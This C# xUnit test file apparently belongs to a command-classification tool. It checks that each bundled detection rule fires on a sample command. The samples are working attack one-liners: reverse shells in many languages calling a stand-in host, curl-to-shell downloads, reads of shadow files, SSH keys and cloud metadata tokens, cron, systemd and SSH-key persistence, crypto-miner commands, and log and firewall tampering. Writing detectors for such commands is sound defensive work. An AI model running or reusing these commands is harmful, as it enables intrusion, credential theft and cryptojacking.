using System.Collections.Generic;
using System.Linq;
using B64Hunt.Classification;
using Xunit;

namespace B64Hunt.Tests.Classification
{
    /// <summary>Every bundled rule fires on a realistic sample: a rule nobody can trigger is a broken rule.</summary>
    public class BundledRuleSampleTests
    {
        private static readonly CommandClassifier Classifier = new CommandClassifier(CommandClassifierTests.Bundled);

        private static readonly Dictionary<string, string> Samples = new Dictionary<string, string>
        {
            ["net-download-tools"] = "tftp -g -r bins.sh 198.51.100.7",
            ["net-connect-tools"] = "socat - TCP:198.51.100.7:80",
            ["net-remote-login"] = "sshpass -p toor ssh root@10.0.0.5",
            ["net-script-http"] = "python -c \"import urllib2;print urllib2.urlopen('http://x').read()\"",
            ["file-permissions"] = "chown root:root /tmp/.b",
            ["file-edit-tools"] = "mv /tmp/.x /usr/bin/.sshd",
            ["file-in-place-edit"] = "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config",
            ["file-redirect-write"] = "printf 'x' > /tmp/.flag",
            ["enum-system-info"] = "lscpu; free -m; df -h",
            ["enum-system-files"] = "cat /etc/os-release",
            ["enum-files"] = "ls -la /root",
            ["enum-processes"] = "pgrep -fl miner",
            ["enum-network-config"] = "ip addr show",
            ["enum-network-connections"] = "ss -tulpn",
            ["enum-users"] = "last -n 20",
            ["enum-accounts"] = "getent passwd",
            ["enum-software"] = "dpkg -l",
            ["enum-security-software"] = "ps aux | grep falcon-sensor",
            ["enum-network-scan"] = "masscan 10.0.0.0/8 -p22,6379 --rate 10000",
            ["delete-files"] = "unlink /tmp/.x",
            ["delete-find"] = "find /tmp -name '*.sh' -delete",
            ["kill-processes"] = "killall -9 kdevtmpfsi",
            ["stop-services"] = "service nginx stop",
            ["archive-tools"] = "zip -r /tmp/.loot.zip /home",
            ["revshell-dev-tcp"] = "sh -i >& /dev/udp/203.0.113.5/4444 0>&1",
            ["revshell-dev-tcp-in-code"] = "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
            ["revshell-nc-exec"] = "nc.traditional -e /bin/bash 203.0.113.5 4444",
            ["revshell-nc-fifo"] = "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.5 4444 1>/tmp/p",
            ["revshell-shell-from-network"] = "telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
            ["revshell-ncat-c"] = "ncat 203.0.113.5 4444 -c 'bash -i 2>&1'",
            ["revshell-socat-exec"] = "socat TCP:203.0.113.5:4444 EXEC:/bin/sh",
            ["revshell-python"] = "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
            ["revshell-perl"] = "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.5:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;exec \"/bin/sh\"'",
            ["revshell-php"] = "php -r '$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_connect($s,\"203.0.113.5\",4444);'",
            ["revshell-ruby"] = "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
            ["revshell-node"] = "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(4444,\"203.0.113.5\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'",
            ["persist-crontab"] = "crontab /tmp/.cron",
            ["persist-cron-files"] = "cp /tmp/.job /etc/cron.d/0hourly",
            ["persist-systemd-unit"] = "cp /tmp/x.service /etc/systemd/system/",
            ["persist-systemd-enable"] = "systemctl daemon-reload && systemctl enable --now x",
            ["persist-systemd-timer"] = "cat > ~/.config/systemd/user/x.timer <<EOF\n[Timer]\nOnBootSec=1min\nEOF",
            ["persist-systemd-run-timer"] = "systemd-run --on-calendar='*:0/5' /tmp/.x/run",
            ["persist-rc-scripts"] = "cp /tmp/.x /etc/init.d/networkd && chmod +x /etc/init.d/networkd",
            ["persist-rc-tools"] = "update-rc.d networkd defaults",
            ["persist-shell-profile"] = "echo 'alias sudo=\"/tmp/.s\"' >> /etc/profile.d/x.sh",
            ["persist-authorized-keys"] = "curl -s http://x/k.pub >> /root/.ssh/authorized_keys",
            ["persist-ssh-copy-id"] = "ssh-copy-id -i k.pub root@10.0.0.5",
            ["persist-ld-preload"] = "LD_PRELOAD=/tmp/.x/libx.so /usr/sbin/sshd",
            ["persist-at-job"] = "at -f /tmp/.x/run now + 5 minutes",
            ["persist-local-account"] = "adduser --disabled-password --gecos '' sysadm",
            ["persist-account-files"] = "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd",
            ["persist-account-change"] = "echo 'root:Passw0rd' | chpasswd",
            ["persist-kernel-module"] = "insmod /tmp/.x/diamorphine.ko",
            ["persist-motd"] = "echo 'curl -s http://x | sh' >> /etc/update-motd.d/00-header",
            ["mining-tools"] = "/usr/bin/minerd -a scrypt -o 198.51.100.9:3333",
            ["mining-stratum"] = "./k -o stratum+ssl://198.51.100.9:443 -u w",
            ["mining-options"] = "./sysupdate --cpu-max-threads-hint=75 -B",
            ["mining-pools"] = "./kswapd0 -o gulf.moneroocean.stream:10128 -u x",
            ["mining-wallet"] = "./run --user 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge",
            ["evasion-history-clear"] = "history -cw",
            ["evasion-history-files"] = "ln -sf /dev/null ~/.bash_history",
            ["evasion-history-redirect"] = "cat /dev/null > ~/.bash_history",
            ["evasion-history-logging"] = "export HISTCONTROL=ignorespace",
            ["evasion-history-set-o"] = "set +o history",
            ["evasion-firewall"] = "iptables -P INPUT ACCEPT && iptables --flush",
            ["evasion-ufw"] = "ufw --force reset",
            ["evasion-firewall-service"] = "systemctl stop firewalld && systemctl disable firewalld",
            ["evasion-selinux"] = "setenforce Permissive",
            ["evasion-selinux-config"] = "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
            ["evasion-apparmor"] = "aa-teardown",
            ["evasion-security-services"] = "service aegis stop; systemctl disable falcon-sensor",
            ["evasion-kill-security"] = "kill -9 $(pidof AliYunDun)",
            ["evasion-audit"] = "auditctl -D",
            ["evasion-immutable"] = "chattr -ia /etc/crontab",
            ["evasion-log-write"] = "echo > /var/log/secure",
            ["evasion-log-delete"] = "rm -rf /var/log/*",
            ["evasion-log-find"] = "find /var/log -type f -exec truncate -s 0 {} \\;",
            ["evasion-journal"] = "journalctl --vacuum-time=1s",
            ["evasion-timestomp"] = "touch -d '2019-01-01 00:00' /tmp/.x",
            ["evasion-decode"] = "xxd -r -p /tmp/x.hex > /tmp/x",
            ["privesc-sudo"] = "doas -u root /bin/ksh",
            ["privesc-sudo-shell"] = "sudo -s",
            ["privesc-su"] = "su - root",
            ["privesc-setuid"] = "chmod +s /bin/bash",
            ["privesc-setcap"] = "/usr/sbin/setcap cap_net_raw+ep /tmp/x",
            ["privesc-sudoers"] = "echo 'x ALL=(ALL) ALL' | tee /etc/sudoers.d/90-x",
            ["privesc-sudoers-text"] = "printf 'bob ALL=(ALL) NOPASSWD:ALL\\n' > /tmp/s",
            ["privesc-visudo"] = "visudo -c",
            ["privesc-admin-group"] = "usermod -aG sudo bob",
            ["privesc-pkexec"] = "pkexec --user root /tmp/.x",
            ["privesc-container-escape"] = "docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh",
            ["privesc-nsenter"] = "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
            ["cred-shadow"] = "grep root /etc/gshadow",
            ["cred-shadow-in-code"] = "perl -ne 'print if /root/' -e 'open(F,\"/etc/shadow\")'",
            ["cred-unshadow"] = "unshadow /tmp/p /tmp/s > /tmp/h; john /tmp/h",
            ["cred-ssh-keys"] = "cat /home/*/.ssh/id_ed25519",
            ["cred-key-search"] = "grep -rl 'BEGIN RSA PRIVATE KEY' /home",
            ["cred-cloud-files"] = "cat ~/.config/gcloud/credentials.db",
            ["cred-metadata"] = "wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            ["cred-env-files"] = "cat /proc/1/environ",
            ["cred-env-grep"] = "printenv | grep -i aws",
            ["cred-history-read"] = "tail -n 100 /root/.mysql_history",
            ["cred-dump-tools"] = "gcore -p 1234",
            ["exec-download-pipe-shell"] = "wget -q -O - http://x/i | busybox sh",
            ["exec-download-pipe-python"] = "curl -sSL http://x/get.py | python",
            ["exec-download-pipe-interpreter"] = "curl -s http://x/a.pl | perl",
            ["exec-download-substitution"] = "source <(curl -s http://x/env.sh)",
            ["exec-download-chmod-run"] = "tftp -g -r x 198.51.100.7; chmod 777 x; ./x",
            ["exec-download-run-script"] = "curl -o /dev/shm/a.py http://x/a.py && python3 /dev/shm/a.py",
            ["revshell-python-code"] = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
            ["revshell-perl-code"] = "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
            ["revshell-ruby-code"] = "f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
            ["revshell-php-code"] = "$sock=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            ["lateral-ssh-host-variable"] = "for h in $(cat /tmp/hosts); do sshpass -p Winter2024 ssh -o StrictHostKeyChecking=no root@$h 'id'; done",
            ["lateral-ssh-key-plant"] = "for h in $(cat hosts); do ssh $h \"echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys\"; done",
            ["lateral-host-harvest"] = "awk '{print $1}' ~/.ssh/known_hosts | sort -u",
            ["exec-temp-binary"] = "cp /usr/bin/curl /dev/shm/.c && /dev/shm/.c -s http://198.51.100.7/a",
            ["exec-temp-script"] = "bash /tmp/.s.sh",
            ["config-file-write"] = "printf 'daily\\nrotate 7\\ncompress\\n' > /etc/logrotate.d/shop-api",
        };

        public static IEnumerable<object[]> RuleIds() => CommandClassifierTests.Bundled.Rules.Select(r => new object[] { r.Id });

        [Theory]
        [MemberData(nameof(RuleIds))]
        public void RuleFiresOnItsSample(string ruleId)
        {
            Assert.True(Samples.TryGetValue(ruleId, out string? sample), $"No sample for rule {ruleId}.");
            var match = Classifier.Classify(sample);
            Assert.Contains(ruleId, match.RuleIds);
            var rule = CommandClassifierTests.Bundled.Rules.Single(r => r.Id == ruleId);
            Assert.Contains(rule.Category, match.Categories);
        }
    }
}
